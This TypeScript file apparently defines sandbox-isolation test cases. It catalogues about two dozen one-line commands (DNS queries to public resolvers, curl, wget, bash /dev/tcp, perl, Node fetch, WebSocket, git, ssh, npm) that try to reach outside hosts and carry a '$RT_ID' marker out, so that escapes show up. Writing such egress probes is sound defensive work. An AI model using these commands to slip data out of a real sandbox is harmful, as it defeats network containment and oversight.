import { attacks } from '../attack.ts'

/** A question for a TXT record of `leak.example`, as bytes. */
const query =
  '\\\\u0012\\\\u0034\\\\u0001\\\\u0000\\\\u0000\\\\u0001\\\\u0000\\\\u0000\\\\u0000\\\\u0000\\\\u0000\\\\u0000\\\\u0004leak\\\\u0007example\\\\u0000\\\\u0000\\\\u0010\\\\u0000\\\\u0001'

export const names = attacks('network.names', 'network', [
  [
    'resolver',
    'have the system resolve a name that carries data',
    '$NODE -e \'require("dns").lookup("leak-canary.example",(e,a)=>console.log(e?"none":"reached:"+process.env.RT_ID))\'',
  ],
  ['direct', 'ask a name server directly', `reach udp 8.8.8.8 53 "${query}"`],
  ['tcp', 'ask a name server over TCP', `reach tcp 8.8.8.8 53 "\\\\u0000\\\\u001e${query}"`],
  ['ipv6', 'ask a name server over IPv6', `reach udp 2606:4700:4700::1111 53 "${query}"`],
  ['engine', 'ask the engine’s own name server', `reach udp 127.0.0.11 53 "${query}"`],
  ['stub', 'ask the host’s stub resolver', `reach udp 127.0.0.53 53 "${query}"`],
  [
    'node',
    'resolve by another library',
    '$NODE -e \'const r=new (require("dns").Resolver)({timeout:800,tries:1});r.setServers(["1.1.1.1"]);r.resolveTxt("leak.example",(e,a)=>console.log(e?"none":a.flat().join()))\'',
  ],
  ['getent', 'resolve by the C library', 'timeout 6 getent hosts leak-data.example && echo reached:$RT_ID'],
  [
    'https',
    'ask a name server over HTTP',
    'reach tcp 1.1.1.1 80 "GET /dns-query?name=leak.example HTTP/1.0\\\\r\\\\nAccept: application/dns-json\\\\r\\\\n\\\\r\\\\n"',
  ],
  ['tls', 'open a name server’s encrypted port', 'reach tcp 1.1.1.1 853'],
  [
    'mdns',
    'ask the neighbours for a name',
    `reach udp 224.0.0.251 5353 "${query}"`,
    'The weak world’s loopback carries the question (see network.ipv4.multicast), but nobody there answers to groups.',
  ],
  [
    'local-daemon',
    'ask the host’s resolver by its socket',
    'for s in /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /var/run/nscd/socket; do [ -S $s ] && reach unix $s \'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"leak.example"}}\\\\u0000\'; done',
  ],
])

export const tools = attacks('network.tools', 'network', [
  ['curl', 'fetch with curl', 'curl -s -m 2 http://1.1.1.1/'],
  [
    'curl-proxy',
    'fetch through a proxy',
    'curl -s -m 2 -x http://10.0.0.1:3128 http://example.com/; curl -s -m 2 --socks5 10.0.0.1:3128 http://example.com/',
  ],
  ['wget', 'fetch with wget', 'wget -q -T 2 -t 1 -O - http://1.1.1.1/'],
  [
    'bash',
    'open a connection with the shell itself',
    'exec 9<>/dev/tcp/1.1.1.1/80 && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&9 && timeout 2 cat <&9',
  ],
  [
    'bash-udp',
    'send a datagram with the shell itself',
    'exec 9<>/dev/udp/1.1.1.1/443 && echo "leak:$RT_ID" >&9 && timeout 1 head -c 20 <&9',
  ],
  [
    'perl',
    'open a connection with perl',
    'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(PeerAddr => "1.1.1.1:80", Timeout => 2) or exit; print $s "GET / HTTP/1.0\\r\\n\\r\\n"; alarm 2; print <$s>\'',
  ],
  [
    'node',
    'fetch with Node',
    '$NODE -e \'fetch("http://1.1.1.1/?leak:"+process.env.RT_ID,{signal:AbortSignal.timeout(6000)}).then(r=>r.text()).then(console.log,()=>{})\'',
  ],
  [
    'websocket',
    'open a WebSocket',
    '$NODE -e \'const w=new WebSocket("ws://1.1.1.1/?leak:"+process.env.RT_ID);w.onerror=()=>process.exit();setTimeout(()=>process.exit(),6000)\'',
  ],
  [
    'http2',
    'speak HTTP/2',
    '$NODE -e \'const s=require("http2").connect("http://1.1.1.1:80");s.on("error",()=>process.exit());s.socket&&s.on("connect",()=>{console.log("reached:"+process.env.RT_ID);process.exit()});setTimeout(()=>process.exit(),2000)\'',
  ],
  [
    'git',
    'speak git’s own protocol',
    'GIT_TERMINAL_PROMPT=0 timeout 3 git -c safe.directory=* ls-remote git://1.1.1.1/leak:$RT_ID 2>&1',
  ],
  [
    'git-http',
    'speak git’s protocol over HTTP',
    'GIT_TERMINAL_PROMPT=0 GIT_CURL_VERBOSE=1 timeout 3 git -c safe.directory=* ls-remote http://1.1.1.1/leak:$RT_ID 2>&1',
  ],
  [
    'ssh',
    'open an ssh connection',
    'timeout 3 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null 203.0.113.7 2>&1',
  ],
  [
    'npm',
    'publish a package',
    'cd /tmp && timeout 6 $NODE "$(dirname "$(dirname "$(readlink -f "$(command -v npm)")")")/bin/npm-cli.js" ping --registry http://1.1.1.1/ --fetch-retries 0 --loglevel http 2>&1',
    'npm is not mounted beside the weak host’s Node.',
  ],
])
